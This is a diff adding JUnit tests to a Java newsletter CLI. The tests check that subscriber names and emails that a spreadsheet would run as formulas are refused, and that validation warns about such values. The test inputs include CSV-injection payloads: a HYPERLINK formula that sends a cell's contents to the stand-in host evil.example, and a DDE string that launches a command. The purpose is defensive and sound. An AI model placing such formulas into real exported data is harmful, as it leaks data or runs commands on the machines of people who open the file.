@@ -11,6 +11,7 @@ import java.nio.file.Path;
 import static org.junit.jupiter.api.Assertions.assertArrayEquals;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
 
 /** {@code tidings subscribers add|remove|unsubscribe} through the real command line, on a copy of the sample list. */
 class SubscribersCommandTest {
@@ -45,6 +46,44 @@ class SubscribersCommandTest {
                 invalid.err());
         assertArrayEquals(before, Files.readAllBytes(list));
         assertFalse(Files.exists(dir.resolve("subscribers.csv.bak")));
+    }
+
+    @Test
+    void aValueASpreadsheetWouldRunAsAFormulaIsRefusedWithTheFieldNamedAndNothingWritten() throws IOException {
+        Path list = sampleCopy();
+        byte[] before = Files.readAllBytes(list);
+        for (String name : new String[] {"=HYPERLINK(\"https://evil.example/?\"&A2,\"Click\")", "+1 club", "-Ann", "@SUM(1+1)*cmd|' /C calc'!A0",
+                "\t=1+1"}) {
+            CliRun run = CliRun.of("subscribers", "add", "amelia@example.org", "--name", name, "--subscribers", list.toString());
+            assertEquals(1, run.exitCode(), name + ": " + run.all());
+            char first = name.strip().charAt(0);
+            assertEquals("tidings: name: begins with '" + first + "', which a spreadsheet takes for the start of a formula and runs when it"
+                    + " opens the list (CSV injection); tidings writes no value that begins with =, +, -, @, a tab or a carriage return"
+                    + " (a genuine name that begins so can be added to the list with an editor; validate will warn about it);"
+                    + " nothing was added to " + list + "\n", run.err());
+        }
+        CliRun address = CliRun.of("subscribers", "add", "--subscribers", list.toString(), "--", "-2+3@example.org");
+        assertEquals(1, address.exitCode(), address.all());
+        assertTrue(address.err().startsWith("tidings: email: begins with '-', which a spreadsheet takes"), address.err());
+        assertArrayEquals(before, Files.readAllBytes(list));
+        assertFalse(Files.exists(dir.resolve("subscribers.csv.bak")));
+
+        CliRun fine = CliRun.of("subscribers", "add", "amelia@example.org", "--name", "Amelia = Watts-Smith", "--subscribers", list.toString());
+        assertEquals(0, fine.exitCode(), "only the first character counts: " + fine.all());
+    }
+
+    @Test
+    void validateWarnsOfAFormulaAlreadyInTheListNamingLineAndColumnAndStillPasses() throws IOException {
+        Path list = Files.writeString(dir.resolve("list.csv"), "email,name\nann@example.org,-Ann\n"
+                + "b@example.org,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"Click\"\")\"\nc@example.org,Cleo\n");
+        CliRun run = CliRun.of("validate", "samples/social-learning-2.yaml", "--subscribers", list.toString());
+        assertEquals(0, run.exitCode(), run.all());
+        String warning = "which a spreadsheet takes for the start of a formula and runs when it opens the list (CSV injection);"
+                + " if it is not genuine, correct or remove the row (tidings sends it as plain text either way)\n";
+        assertTrue(run.out().contains(list + ":2: warning: name: begins with '-', " + warning), run.out());
+        assertTrue(run.out().contains(list + ":3: warning: name: begins with '=', " + warning), run.out());
+        assertTrue(run.out().contains(list + ": valid (0 errors, 2 warnings): 3 rows, 3 subscribed"), run.out());
+        assertEquals(1, CliRun.of("validate", "samples/social-learning-2.yaml", "--subscribers", list.toString(), "--strict").exitCode());
     }
 
     @Test
